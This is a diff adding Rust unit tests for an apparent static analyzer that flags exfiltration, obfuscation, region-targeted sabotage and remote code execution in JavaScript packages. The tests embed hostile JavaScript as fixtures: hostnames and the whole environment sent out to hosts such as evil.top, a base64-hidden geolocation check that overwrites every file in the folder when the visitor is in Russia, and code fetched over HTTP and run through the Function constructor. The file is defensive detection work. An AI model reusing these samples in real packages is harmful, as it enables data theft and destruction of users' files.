@@ -1,0 +1,151 @@
+use super::*;
+use telltale_facts::{DataKind, Effect, SinkKind};
+
+fn run(src: &str) -> FileFacts {
+    analyze("t.js", src, &Options::default())
+}
+
+#[test]
+fn alias_of_os_hostname_sent_over_dns_is_a_flow() {
+    let f = run("const o = require('node:os'); const d = require('dns'); let h = `x.${o.hostname()}.evil.top`; d.lookup(h, () => {});");
+    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
+    assert!(f.flows[0].kinds.contains(DataKind::Hostname));
+    assert_eq!(f.flows[0].sink, SinkKind::Dns);
+    assert!(f.flows[0].steps.len() >= 2);
+}
+
+#[test]
+fn hostname_compared_but_not_sent_is_no_flow() {
+    let f = run("const os = require('os'); if (os.hostname() === 'ci') { require('https').get('https://example.com/x'); }");
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+}
+
+#[test]
+fn proxy_env_sent_with_request_is_not_identity() {
+    let f = run("const https = require('https'); https.get({ host: 'registry.npmjs.org', proxy: process.env.HTTPS_PROXY, env: process.env.NODE_ENV });");
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+}
+
+#[test]
+fn whole_env_posted_through_request_handle() {
+    let f = run("const env = process.env; const https = require('https'); const r = https.request({host: 'x.example.com', method: 'POST'}); r.write(JSON.stringify(env)); r.end();");
+    assert!(f.flows.iter().any(|fl| fl.kinds.contains(DataKind::WholeEnvironment)), "{:#?}", f.flows);
+}
+
+#[test]
+fn flow_through_function_return_and_parameter() {
+    let f = run("const os = require('os'), https = require('https');
+        function fp() { let c = os.userInfo(); return Buffer.from(c.username + c.homedir).toString('base64'); }
+        function send(opts, body) { const e = https.request(opts); e.write(body); e.end(); }
+        send({hostname: 'api.github.com'}, JSON.stringify({ body: `fp:${fp()}` }));");
+    assert!(f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Username)), "{:#?}", f.flows);
+}
+
+#[test]
+fn base64_geoip_url_and_country_name_guard_over_destructive_function() {
+    let f = run(r#"import u from "path"; import a from "fs"; import o from "https";
+        const n = Buffer.from("aHR0cHM6Ly9hcGkuaXBnZW9sb2NhdGlvbi5pby9pcGdlbz9hcGlLZXk9eA==", "base64");
+        o.get(n.toString("utf8"), function (t) { t.on("data", function (t) {
+            const c = Buffer.from("Y291bnRyeV9uYW1l", "base64"); const e = Buffer.from("cnVzc2lh", "base64");
+            const s = JSON.parse(t.toString("utf8")); const v = s[c.toString("utf8")].toLowerCase();
+            const hit = v.includes(e.toString("utf8")); if (hit) { h("./"); } }); });
+        function h(n) { let r = []; try { r = a.readdirSync(n) } catch (x) {} for (var i = 0; i < r.length; i++) { const p = u.join(n, r[i]); a.writeFile(p, "x", function () {}); } }"#);
+    assert!(f.endpoints.iter().any(|e| e.host == "api.ipgeolocation.io" && !e.encodings.is_empty()), "{:#?}", f.endpoints);
+    assert!(f.obfuscations.iter().any(|o| o.decoded == "russia"), "{:#?}", f.obfuscations);
+    assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
+    assert_eq!(f.region_guards[0].countries, vec!["RU"]);
+    assert!(f.region_guards[0].effects.contains(&Effect::Destructive));
+    assert!(f.destructive.iter().any(|d| d.mass));
+}
+
+#[test]
+fn time_zone_list_with_early_return_guards_the_rest() {
+    let f = run(r#"if (["Europe/Moscow", "Asia/Omsk"].indexOf(new Intl.DateTimeFormat().resolvedOptions().timeZone) === -1) { return; }
+        console.log("hello");"#);
+    assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
+    assert_eq!(f.region_guards[0].countries, vec!["RU"]);
+    assert_eq!(f.region_guards[0].effects, vec![Effect::Message]);
+}
+
+#[test]
+fn minified_positive_index_guard() {
+    let f = run(r#"var t;-1!==["Europe/Moscow","W-SU"].indexOf((new Intl.DateTimeFormat).resolvedOptions().timeZone)&&(t=function(){},alert("x"),window.open("http://x.org"));"#);
+    assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
+    assert!(f.region_guards[0].effects.contains(&Effect::UiSabotage));
+}
+
+#[test]
+fn locale_regex_and_page_tld_guard() {
+    let f = run(r#"if (typeof window !== 'undefined' && /^ru\b/.test(navigator.language) && location.host.match(/\.(ru|su|by|xn--p1ai)$/)) {
+        setTimeout(() => { document.body.style.pointerEvents = 'none'; }, 500) }"#);
+    assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
+    assert!(f.region_guards[0].countries.contains(&"RU".to_string()));
+    assert!(f.region_guards[0].effects.contains(&Effect::UiSabotage));
+}
+
+#[test]
+fn locale_used_to_pick_a_translation_names_no_effect() {
+    let f = run(r#"function msg() { if (navigator.language.startsWith("zh")) { return "你好"; } return "hello"; }"#);
+    assert!(f.region_guards.iter().all(|g| g.effects.is_empty()), "{:#?}", f.region_guards);
+}
+
+#[test]
+fn time_zone_compared_with_utc_is_no_guard() {
+    let f = run(r#"if (Intl.DateTimeFormat().resolvedOptions().timeZone === "UTC") { console.log("utc"); }"#);
+    assert!(f.region_guards.is_empty());
+}
+
+#[test]
+fn function_constructor_from_folded_typeof_runs_network_data() {
+    let f = run(r#"var http = require('http'); http.get({host: '1.2.3.4', path: '/u.json'}, function(response) {
+        var body = ''; response.on('data', function(d) { body += d; });
+        response.on('end', function() { var f = this[(typeof(this.Buffer.from)).charAt(0).toUpperCase() + (typeof(this.Buffer.from)).slice(1)]; o = new f(body); o(); }); });"#);
+    assert_eq!(f.dynamic_code.len(), 1, "{:#?}", f.dynamic_code);
+    assert_eq!(f.dynamic_code[0].api, "Function");
+}
+
+#[test]
+fn eval_of_constant_is_not_network_code() {
+    let f = run("eval('1+1'); setTimeout(function(){}, 10);");
+    assert!(f.dynamic_code.is_empty());
+}
+
+#[test]
+fn telemetry_host_in_plain_string_is_an_endpoint() {
+    let f = run("module.exports = { host: 'api.mixpanel.com', docs: 'see lodash.merge' };");
+    assert!(f.endpoints.iter().any(|e| e.host == "api.mixpanel.com"));
+    assert!(!f.endpoints.iter().any(|e| e.host == "lodash.merge"));
+}
+
+#[test]
+fn plain_base64_of_boring_text_is_not_obfuscation() {
+    let f = run("const x = Buffer.from('aGVsbG8gd29ybGQ=', 'base64').toString();");
+    assert!(f.obfuscations.is_empty());
+}
+
+#[test]
+fn char_codes_decode() {
+    let f = run("const m = String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46,116,111,112,47);");
+    assert!(f.endpoints.iter().any(|e| e.host == "evil.top"), "{:#?}", f.endpoints);
+}
+
+#[test]
+fn deep_nesting_does_not_overflow() {
+    let depth = 10_000;
+    let src = format!("var x = {}1{};", "(".repeat(depth), ")".repeat(depth));
+    let handle = std::thread::Builder::new().stack_size(256 << 20).spawn(move || run(&src)).unwrap();
+    let _ = handle.join().unwrap();
+}
+
+#[test]
+fn garbage_does_not_panic() {
+    for src in ["}{", "function (", "\u{0}\u{1}\u{2}", "`${", "/[/", "a?.b?.(", "import(", ""] {
+        let _ = run(src);
+    }
+}
+
+#[test]
+fn typescript_parses() {
+    let f = analyze("x.ts", "import * as os from 'os'; const h: string = os.hostname(); fetch(`https://x.io/?h=${h}`);", &Options::default());
+    assert_eq!(f.flows.len(), 1, "{:#?} {:?}", f.flows, f.diagnostics);
+}
